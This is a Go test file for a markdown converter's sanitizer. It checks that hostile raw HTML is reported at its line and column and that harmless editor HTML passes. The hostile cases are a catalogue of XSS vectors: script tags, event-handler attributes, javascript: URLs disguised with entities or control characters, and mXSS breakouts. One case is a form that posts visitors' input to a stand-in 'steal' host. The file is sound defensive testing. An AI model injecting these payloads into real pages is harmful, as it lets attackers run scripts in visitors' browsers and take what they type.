package markdown

import (
	"strings"
	"testing"
)

// TestRawHTMLHostile: with raw HTML allowed, whatever in a page would run a
// script, load from another site or send visitors elsewhere without their
// click is an error at its line and column, whether or not the site's
// Content-Security-Policy would block it: the published HTML must be safe
// without it.
func TestRawHTMLHostile(t *testing.T) {
	for _, c := range []struct {
		name, src string
		want      string // line:col and part of the message of the first error
	}{
		{"inline script", "Text\n\n<script>alert(1)</script>\n", "3:1: error: a <script>"},
		{"script file", "<p>x <script src=\"/js/x.js\"></script></p>\n", "1:6: error: a <script>"},
		{"script inline tag", "Text <script>alert(1)</script>\n", "1:6: error: a <script>"},
		{"svg script", "<svg><script>alert(1)</script></svg>\n", "1:6: error: a <script>"},
		{"iframe", "<iframe src=\"https://evil.example.net/\"></iframe>\n", "1:1: error: an <iframe>"},
		// A video pasted from its site's "embed" button: the error gives
		// the video's own page to link to.
		{"youtube", "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?si=x\" title=\"YouTube video player\" frameborder=\"0\" allow=\"autoplay\" allowfullscreen></iframe>\n",
			"1:1: error: an <iframe> loads another page into this one, which would tell its site about every visitor and which the site's Content-Security-Policy blocks; link to it instead, such as [Watch the video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)"},
		{"vimeo", "<div style=\"padding:56.25% 0 0 0;position:relative;\"><iframe src=\"https://player.vimeo.com/video/76979871?h=8272103f6e\" allowfullscreen></iframe></div>\n",
			"1:54: error: an <iframe> loads another page into this one, which would tell its site about every visitor and which the site's Content-Security-Policy blocks; link to it instead, such as [Watch the video](https://vimeo.com/76979871)"},
		{"object", "<object data=\"/files/x.swf\"></object>\n", "1:1: error: an <object>"},
		{"embed", "<embed src=\"https://evil.example.net/x.swf\">\n", "1:1: error: an <embed>"},
		{"form", "<form action=\"https://evil.example.net/steal\"><input name=p></form>\n", "1:7: error: action \"https://evil.example.net/steal\" sends what visitors type to another site"},
		{"formaction", "<div><button formaction=\"https://evil.example.net/\">Go</button></div>\n", "1:14: error: formaction \"https://evil.example.net/\" sends"},
		{"base", "<base href=\"https://evil.example.net/\">\n", "1:1: error: a <base>"},
		{"link stylesheet", "<link rel=stylesheet href=\"https://evil.example.net/x.css\">\n", "1:1: error: a <link>"},
		{"link protocol-relative", "<link rel=stylesheet href=//evil.example.net/x.css>\n", "1:1: error: a <link>"},
		{"meta refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example.net/\">\n", "1:7: error: a meta refresh"},
		{"style import", "<style>@import url(https://evil.example.net/x.css);</style>\n", "1:1: error: a <style>"},
		{"style javascript", "<style>p{background:url(javascript:alert(1))}</style>\n", "1:1: error: a <style>"},
		{"style attribute url", "<p style=\"background:url(https://evil.example.net/t.gif)\">x</p>\n", "1:4: error: a style attribute"},
		{"onerror", "<img alt=\"\" src=\"/images/a.png\" onerror=\"alert(1)\">\n", "1:33: error: the onerror attribute"},
		{"ONCLICK", "<div ONCLICK=\"alert(1)\">x</div>\n", "1:6: error: the onclick attribute"},
		{"onmouseover after slash", "<div>\n<img/alt=\"\"/onmouseover=alert(1)/src=x>\n</div>\n", "2:13: error: the onmouseover attribute"},
		{"math xlink", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>\n", "1:40: error: xlink:href \"javascript:alert(1)\""},
		{"svg set href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>\n", "1:9: error: an SVG <set> can change"},
		{"svg animate href", "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a></svg>\n", "1:9: error: an SVG <animate> can change"},
		{"math breakout", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n", "1:29: error: a <style>"},
		{"svg title breakout", "<svg><title><img alt=\"\" src=x onerror=alert(1)></title></svg>\n", "1:6: error: a <title>"},
		{"noembed", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>\n", "1:1: error: a <noembed>"},
		{"noscript split", "Text <noscript> and <img alt=\"\" title=\"</noscript><img src=x onerror=alert(1)>\">\n", "1:6: error: a <noscript>"},
		{"textarea", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>\n", "1:1: error: a <textarea>"},
		{"plaintext", "<plaintext>\n", "1:1: error: a <plaintext>"},
		{"xmp", "<xmp></xmp>\n", "1:1: error: a <xmp>"},
		{"javascript href", "<a href=\"javascript:alert(1)\">x</a>\n", "1:4: error: href \"javascript:alert(1)\""},
		{"data src", "<img alt=\"\" src=\"data:image/svg+xml,<svg onload=alert(1)>\">\n", "1:13: error: src \"data:image/svg+xml"},
		{"vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>\n", "1:4: error: href \"vbscript:msgbox(1)\""},
		{"action javascript", "<form action=\"javascript:alert(1)\"></form>\n", "1:7: error: action \"javascript:alert(1)\" uses the javascript: scheme"},
		{"poster", "<video poster=\"javascript:alert(1)\"></video>\n", "1:8: error: poster"},
		{"background", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>\n", "1:8: error: background"},
		{"srcset", "<img alt=\"\" srcset=\"javascript:alert(1) 1x\">\n", "1:13: error: srcset"},
		{"entity scheme", "<a href=\"jav&#x61;script:alert(1)\">x</a>\n", "1:4: error: href \"javascript:alert(1)\""},
		{"entity colon", "<a href=\"javascript&colon;alert(1)\">x</a>\n", "1:4: error: href \"javascript:alert(1)\""},
		{"tab in scheme", "<a href=\"java\tscript:alert(1)\">x</a>\n", "1:4: error: href"},
		{"entity tab in scheme", "<a href=\"java&Tab;script:alert(1)\">x</a>\n", "1:4: error: href"},
		{"newline in scheme", "<a href=\"java&#10;script:alert(1)\">x</a>\n", "1:4: error: href"},
		{"leading control", "<a href=\"&#1;javascript:alert(1)\">x</a>\n", "1:4: error: href"},
		{"leading space", "<a href=\" javascript:alert(1)\">x</a>\n", "1:4: error: href"},
		{"comment hides tag", "<!-- a --!><img alt=\"\" src=x onerror=alert(1)> -->\n", "1:30: error: the onerror attribute"},
		{"cdata hides tag", "<div><![CDATA[><img alt=\"\" src=x onerror=alert(1)>]]></div>\n", "1:34: error: the onerror attribute"},
		{"unclosed comment", "<div>\n<!--\n\nText <img alt=\"\" title=\"--><img src=x onerror=alert(1)>\">\n", "2:1: error: a comment"},
		{"unclosed tag", "<div title=\"\n\n[x](https://a.example/onmouseover=alert(1)//)\n", "1:1: error: the <div> tag is not closed"},
		{"target blank", "<a href=\"https://example.org/\" target=\"_blank\">x</a>\n", "1:32: warning: a link that opens a new window"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, err := New(true).Convert([]byte(c.src), Doc{File: "content/x.md", BodyLine: 1, Base: "/x/"})
			if err != nil {
				t.Fatal(err)
			}
			got := problemLines(res)
			for _, s := range got {
				if strings.HasPrefix(s, c.want) {
					return
				}
			}
			t.Errorf("want %q...\ngot: %q\npublished: %s", c.want, got, res.HTML)
		})
	}
}

// TestRawHTMLEditors: what editors legitimately paste passes without an
// error and is published as written.
func TestRawHTMLEditors(t *testing.T) {
	for _, src := range []string{
		"<details>\n<summary>How long is a session?</summary>\n\nAbout an hour.\n\n</details>\n",
		"The <abbr title=\"craniosacral therapy\">CST</abbr> session.\n",
		"Press <kbd>Ctrl</kbd>+<kbd>F</kbd>.\n",
		"E = mc<sup>2</sup> and H<sub>2</sub>O.\n",
		"One line<br>another.\n",
		"<img src=\"/images/hands.jpg\" alt=\"Hands resting on a shoulder\" width=\"300\">\n",
		"<figure>\n<img src=\"/images/hands.jpg\" alt=\"Hands resting on a shoulder\">\n<figcaption>A light touch.</figcaption>\n</figure>\n",
		"<a href=\"https://example.org/\" target=\"_blank\" rel=\"noopener\">x</a>\n",
		"<!-- a note for editors -->\n",
	} {
		res, err := New(true).Convert([]byte(src), Doc{File: "content/x.md", BodyLine: 1, Base: "/x/"})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range res.Problems {
			t.Errorf("%q: %d:%d %s", src, p.Line, p.Col, p.Msg)
		}
	}
}
